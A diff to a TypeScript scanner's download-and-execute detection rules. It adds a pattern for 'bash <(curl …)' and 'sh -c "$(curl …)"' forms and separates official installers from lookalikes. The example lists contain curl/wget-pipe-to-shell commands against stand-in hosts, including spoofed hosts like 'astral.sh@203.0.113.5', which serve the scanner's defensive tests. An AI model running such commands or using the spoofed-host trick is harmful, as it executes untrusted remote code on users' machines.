@@ -23,9 +23,12 @@ function namesTarget(command: string): boolean {
   return args.split(/\s+/).some((a) => a !== "" && !/^-/.test(a) && !/^[`'"()]+$/.test(a));
 }
 
+/** `bash <(curl …)`, `sh -c "$(curl …)"`; group 1: what the substitution downloads, to its closing parenthesis. */
+const SUBSTITUTED_DOWNLOAD = /\b(?:(?:ba|z)?sh|source|\.|eval|python[23]?)\s+(?:-c\s+)?["']?(?:<\(|\$\()\s*((?:curl|wget)\b[^\n)]{0,300})/gi;
+
 function pipedDownloads(segment: Segment, known: boolean): Hit[] {
   const hits = hitsOf(PIPE_TO_INTERPRETER, segment.text, (m) => namesTarget(m[0]) && isOfficial(m[0]) === known);
-  if (known) hits.push(...hitsOf(PS_DOWNLOAD_INVOKE, segment.text, (m) => isOfficial(m[0])));
+  if (known) hits.push(...hitsOf(PS_DOWNLOAD_INVOKE, segment.text, (m) => isOfficial(m[0])), ...hitsOf(SUBSTITUTED_DOWNLOAD, segment.text, (m) => isOfficial(m[1]!)));
   return hits;
 }
 
@@ -42,7 +45,7 @@ export const downloadExecuteRules: Rule[] = [
     keywords: ["curl", "wget", "fetch"],
     match: (segment) => pipedDownloads(segment, false),
     examples: {
-      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -s dropper:8080/i | sh"],
+      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -s dropper:8080/i | sh", "curl -LsSf https://astral.sh@203.0.113.5/uv/install.sh | sh"],
       negative: ["curl -fsSL https://api.example.invalid/data | jq .", "curl -s https://example.invalid/x.json | python3 -m json.tool", "- Download and execute (`curl | sh`)", "#   curl -sSL <url> | sudo bash"],
     },
   },
@@ -58,8 +61,8 @@ export const downloadExecuteRules: Rule[] = [
     keywords: ["curl", "wget", "iex", "invoke-expression"],
     match: (segment) => pipedDownloads(segment, true),
     examples: {
-      positive: ["curl --proto '=https' -sSf https://sh.rustup.rs | sh", "curl -LsSf https://astral.sh/uv/install.sh | sh", 'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"'],
-      negative: ["curl -fsSL https://example.invalid/setup.sh -o setup.sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh"],
+      positive: ["curl --proto '=https' -sSf https://sh.rustup.rs | sh", "curl -LsSf https://astral.sh/uv/install.sh | sh", 'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"', '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'],
+      negative: ["curl -fsSL https://example.invalid/setup.sh -o setup.sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -LsSf https://astral.sh@203.0.113.5/uv/install.sh | sh"],
     },
   },
   {
@@ -72,10 +75,16 @@ export const downloadExecuteRules: Rule[] = [
     fileKinds: SCRIPTS_AND_PROSE,
     context: "command",
     keywords: ["curl", "wget"],
-    pattern: /\b(?:(?:ba|z)?sh|source|\.|eval|python[23]?)\s+(?:-c\s+)?["']?(?:<\(|\$\()\s*(?:curl|wget)\b/gi,
+    // An official installer (exact host, scanner/allowlist.ts) is SR-DLEXEC-002's, at medium.
+    match: (segment) => hitsOf(SUBSTITUTED_DOWNLOAD, segment.text, (m) => !isOfficial(m[1]!)),
     examples: {
-      positive: ["bash <(curl -s https://example.invalid/i.sh)", "sh -c \"$(curl -fsSL https://example.invalid/install)\""],
-      negative: ["VERSION=\"$(curl -s https://api.example.invalid/version)\""],
+      positive: [
+        "bash <(curl -s https://example.invalid/i.sh)",
+        "sh -c \"$(curl -fsSL https://example.invalid/install)\"",
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com.evil.example/Homebrew/install/HEAD/install.sh)"',
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com@203.0.113.5/Homebrew/install/HEAD/install.sh)"',
+      ],
+      negative: ["VERSION=\"$(curl -s https://api.example.invalid/version)\"", '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'],
     },
   },
   {
